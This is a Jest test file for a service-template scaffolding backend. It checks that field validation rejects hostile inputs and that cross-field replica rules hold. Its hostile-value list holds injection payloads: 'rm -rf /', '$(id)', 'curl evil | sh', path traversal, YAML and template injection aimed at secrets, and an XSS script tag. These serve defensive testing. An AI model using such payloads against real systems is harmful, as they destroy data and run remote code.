import yaml from 'yaml';
import { DryRunBackend, startDryRunBackend } from './dryRunBackend';
import { TemplateValues, fullValues, minimalValues } from './inputSets';

jest.setTimeout(120_000);

let backend: DryRunBackend;
beforeAll(async () => {
  backend = await startDryRunBackend();
});
afterAll(() => backend?.stop());

const CYRILLIC_O = '\u043e';
const FULLWIDTH_ONE = '\uff11';

/** [field, hostile value]: each must be refused by the backend's validation. */
const hostile: Array<[string, unknown]> = [
  ['name', '../etc'],
  ['name', 'orders/../../x'],
  ['name', 'orders;rm -rf /'],
  ['name', 'orders$(id)'],
  ['name', 'Orders'],
  ['name', 'a'.repeat(300)],
  ['name', 'a'.repeat(41)],
  ['name', 'orders\n'],
  ['name', 'orders\nkind: Secret'],
  ['name', '${{ secrets.backstageToken }}'],
  ['name', '{{ .Values.secret }}'],
  ['name', `${CYRILLIC_O}rders`],
  ['name', 'orders"'],
  ['name', "orders'"],
  ['name', 'orders: x'],
  ['description', 'fine\nkind: Secret'],
  ['description', 'x ${{ secrets.backstageToken }}'],
  ['description', 'x {{ .Release.Name }}'],
  ['description', 'x {% raw %}'],
  ['description', 'say "hi"'],
  ['description', "it's"],
  ['description', 'x `id` $(id)'],
  ['description', 'x; curl evil | sh'],
  ['description', '<script>alert(1)</script>'],
  ['description', 'a'.repeat(300)],
  ['description', `${CYRILLIC_O}rder intake`],
  ['owner', 'group:default/payments\nx'],
  ['owner', 'group:default/../../x'],
  ['owner', 'group:default/Payments'],
  ['system', 'system:default/commerce"'],
  ['namespace', 'kube-system'],
  ['namespace', '../payments'],
  ['namespace', 'Payments'],
  ['namespace', 'a'.repeat(64)],
  ['environments', ['dev', 'dev']],
  ['environments', ['qa']],
  ['environments', []],
  ['replicas', 2],
  ['replicas', 6],
  ['replicas', '3'],
  ['cpu', '1; rm -rf /'],
  ['cpu', '100'],
  ['memory', '1Ti'],
  ['memory', '512Mi\n'],
  ['resourcePreset', 'huge'],
  ['hpaMaxReplicas', 500],
  ['awsAccountId', '12345678901'],
  ['awsAccountId', `${FULLWIDTH_ONE}23456789012`],
  ['awsRegion', 'mars-1'],
  ['repoUrl', 'evil.example.com?owner=acme&repo=orders'],
  ['repoUrl', '127.0.0.1:7130?owner=acme&repo=orders&token=x'],
  ['repoUrl', '127.0.0.1:7130?owner=../acme&repo=orders'],
  ['repoUrl', '127.0.0.1:7130?owner=acme&repo=Orders'],
  ['gitopsRepoUrl', '127.0.0.1:7130?owner=acme&repo=gitops\n'],
  ['argocdInstance', 'main;x'],
  ['language', 'python'],
  ['ingressMode', 'nodeport'],
];

function withField(field: string, value: unknown): TemplateValues {
  return { ...minimalValues, [field]: value };
}

describe('hostile inputs are refused before any step runs', () => {
  it.each(hostile)('%s = %j', async (field, value) => {
    const result = await backend.dryRun(withField(field, value));
    expect(result.status).toBe(400);
    expect(result.body.errors?.length).toBeGreaterThan(0);
    // The error names the field to fix.
    expect(JSON.stringify(result.body.errors)).toContain(field);
    // Nothing ran: no log, no generated files.
    expect(result.body.log).toBeUndefined();
    expect(result.files).toEqual({});
  });

  it.each<[string, TemplateValues]>([
    [
      'hostile allowedCallers namespace',
      { allowedCallers: [{ name: 'checkout', namespace: 'web\nx' }] },
    ],
    [
      'an undeclared allowedCallers property',
      { allowedCallers: [{ name: 'checkout', port: 1 }] },
    ],
    ['a traversing Vault path', { vaultSecrets: ['../other-team/db'] }],
    ['a too deep Vault path', { vaultSecrets: ['a1/b1/c1/d1/e1'] }],
    ['a Vault path with a newline', { vaultSecrets: ['orders/config\n'] }],
    [
      'a public ingress host with a quote',
      {
        ingressMode: 'public',
        ingressHost: 'a.example.com"',
        certificateArn: fullValues.certificateArn,
      },
    ],
    [
      'a certificate ARN from another service',
      {
        ingressMode: 'public',
        ingressHost: 'a.example.com',
        certificateArn: 'arn:aws:iam::123456789012:role/admin',
      },
    ],
  ])('%s', async (_label, patch) => {
    const result = await backend.dryRun({ ...minimalValues, ...patch });
    expect(result.status).toBe(400);
    expect(result.files).toEqual({});
  });
});

describe('cross-field rules are enforced server side', () => {
  it.each<[string, TemplateValues, string]>([
    [
      'HPA minimum below PDB minAvailable + 1',
      { pdbMinAvailable: 3, hpaMinReplicas: 3 },
      'hpaMinReplicas',
    ],
    [
      'replicas below PDB minAvailable + 1',
      { pdbMinAvailable: 4, replicas: 4, hpaMinReplicas: 5 },
      'replicas',
    ],
    [
      'HPA maximum below the minimum',
      { hpaMinReplicas: 6, hpaMaxReplicas: 5 },
      'hpaMaxReplicas',
    ],
    [
      'ingress without a host and certificate',
      { ingressMode: 'public' },
      'ingress',
    ],
    [
      'database role without a connection',
      { vaultDatabaseRole: 'orders-rw' },
      'vaultDatabaseConnection',
    ],
  ])('%s', async (_label, patch, field) => {
    const result = await backend.dryRun({ ...minimalValues, ...patch });
    expect(result.status).toBe(400);
    expect(JSON.stringify(result.body.errors)).toContain(field);
  });

  it('accepts the boundary where the HPA minimum is exactly PDB minAvailable + 1', async () => {
    const result = await backend.dryRun({
      ...minimalValues,
      pdbMinAvailable: 3,
      replicas: 4,
      hpaMinReplicas: 4,
      hpaMaxReplicas: 4,
    });
    expect(result.status).toBe(200);
  });
});

describe('allowed punctuation reaches generated files escaped', () => {
  it('keeps the description verbatim in every YAML and JSON file', async () => {
    const description = 'Orders (EU/US), v2 - fast_path. 100/s';
    const result = await backend.dryRun({ ...minimalValues, description });
    expect(result.status).toBe(200);
    const files = result.files;
    expect(yaml.parse(files['catalog-info.yaml']).metadata.description).toBe(
      description,
    );
    expect(yaml.parse(files['chart/Chart.yaml']).description).toBe(description);
    expect(yaml.parse(files['mkdocs.yml']).site_description).toBe(description);
    expect(JSON.parse(files['package.json']).description).toBe(description);
  });
});
